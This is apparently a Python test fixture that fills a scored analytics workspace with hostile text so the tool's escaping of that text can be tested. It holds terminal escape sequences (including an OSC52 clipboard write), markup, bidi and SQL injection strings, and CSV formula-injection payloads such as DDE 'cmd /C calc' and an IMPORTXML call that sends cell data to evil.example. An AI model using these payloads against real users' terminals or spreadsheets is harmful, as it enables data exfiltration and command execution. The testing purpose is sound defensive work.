"""Hostile text, and a scored workspace whose names, events, properties and notes are made of it.

Each string starts with a short plain marker, so a test can find it whatever became of the rest.
"""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from pqa_tui import triage
from pqa_tui.config import Config
from pqa_tui.ingest.pipeline import ingest_paths, ingest_records
from pqa_tui.plugins import load_plugins
from pqa_tui.scoring import score_all
from pqa_tui.store import open_db

AS_OF = datetime(2026, 3, 6, tzinfo=UTC)
HOSTILE: dict[str, str] = {
    "rich": "RICH [bold red]red[/bold red] [link=https://evil.example]click[/link] :smile:",
    "textual": "TEXTUAL [@click=app.quit]quit[/] [$accent]var[/] [b]open",
    "ansi": "ANSI \x1b[2J\x1b[H\x1b[31mred\x1b[0m\x1b[?1049h",
    "osc52": "OSC52 \x1b]52;c;ZWNobyBwd25lZA==\x07 clipboard",
    "title": "TITLE \x1b]0;pwned\x07\x1b]2;pwned\x1b\\ title",
    "c1": "CONE \x9b31m\x9d0;pwned\x9c c1",
    "bidi": "BIDI \u202egnp.exe\u202c \u2066iso\u2069",
    "zerowidth": "ZERO z\u200bw\u200c\u200dj\ufeff",
    "sql": "SQL '); drop table notes; -- \" or 1=1",
    "newline": "NEWLINE one\ntwo\rthree",
    "big": "BIGTEXT " + "x" * 100_000,
}
ESCAPE_CHARS = ("\x1b", "\x07", "\x9b", "\x9c", "\x9d")
# Spreadsheet formula injection (OWASP "CSV Injection"): a cell starting with = + - @ tab or CR.
# Written as notes on the "sql" account, so every CSV export carries them.
FORMULAS: dict[str, str] = {
    "equals": '=IMPORTXML(CONCAT("https://evil.example/?d=",A1:A99),"//a")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": '\t=HYPERLINK("https://evil.example","click")',
    "cr": '\r=HYPERLINK("https://evil.example","click")',
}


def hostile_events(seed: int = 0) -> list[dict[str, Any]]:
    """Segment calls: one busy account per hostile string (its id, name, events, users)."""
    rng = random.Random(seed)
    start = datetime(2026, 1, 5, tzinfo=UTC)
    calls: list[dict[str, Any]] = []
    for key, text in HOSTILE.items():
        account = f"acct-{key} {text[:200]}"
        calls.append(
            {"type": "group", "messageId": f"g-{key}", "userId": f"{key}-u0", "groupId": account,
             "timestamp": start.isoformat(), "traits": {"name": text, "website": f"{key}.io",
                                                        "plan": "free"}}
        )  # fmt: skip
        for u in range(9):
            calls.append(
                {"type": "identify", "messageId": f"i-{key}-{u}", "userId": f"{key}-u{u}",
                 "timestamp": start.isoformat(), "context": {"groupId": account},
                 "traits": {"email": f"{key}{u}@{key}.io", "name": text,
                            "seniority": "Director" if u == 0 else text}}
            )  # fmt: skip
        for i in range(700):
            at = start + timedelta(days=rng.randrange(60), seconds=rng.randrange(86_400))
            name = ["Document Created", "User Invited", "Pricing Viewed", text][i % 4]
            calls.append(
                {"type": "track", "messageId": f"t-{key}-{i}", "userId": f"{key}-u{i % 9}",
                 "context": {"groupId": account}, "event": name,
                 "timestamp": at.isoformat().replace("+00:00", "Z"),
                 "properties": {"label": text, text[:50]: i}}
            )  # fmt: skip
        calls.append(
            {"type": "page", "messageId": f"p-{key}", "userId": f"{key}-u1",
             "context": {"groupId": account}, "timestamp": "2026-03-01T10:00:00Z",
             "properties": {"path": "/pricing/" + text[:300], "title": text}}
        )  # fmt: skip
    return calls


def account_id(key: str) -> str:
    return f"acct-{key} {HOSTILE[key][:200]}"


def build_hostile_workspace(path: Path) -> Config:
    """Ingest, score as of AS_OF, and write notes, feedback and a claim in hostile text."""
    config = Config()
    db = open_db(path)
    ingest_records(db, config, hostile_events(), source="hostile.ndjson")
    # Rejects whose raw lines are hostile too: JSON (escaped as JSON) and CSV (raw bytes).
    ingest_records(db, config, [{"type": "track", "userId": HOSTILE["ansi"]}], source="bad")
    plugins = load_plugins(entry_points_too=False)
    bad_csv = path.parent / "hostile.csv"
    bad_csv.write_text(
        "account_id,user_id,event,timestamp\n"
        f"acct-csv,{HOSTILE['title']},{HOSTILE['osc52']},not a time\n",
        encoding="utf-8",
    )
    ingest_paths(db, config, plugins, [bad_csv], fmt="csv")
    score_all(db, config, plugins, as_of=AS_OF.date())
    triage.route_new(db, config)
    for key, text in HOSTILE.items():
        acct = account_id(key)
        triage.add_note(db, config, acct, "ann", text, now=AS_OF)
        triage.give_feedback(db, config, acct, "ann", "good", reason="buyer engaged", text=text,
                             now=AS_OF)  # fmt: skip
    for text in FORMULAS.values():
        triage.add_note(db, config, account_id("sql"), "ann", text, now=AS_OF)
    triage.claim(db, config, account_id("osc52"), "ann", now=AS_OF)
    triage.sunset(db, config, account_id("title"), "ann", reason=HOSTILE["title"], now=AS_OF)
    db.close()
    return config
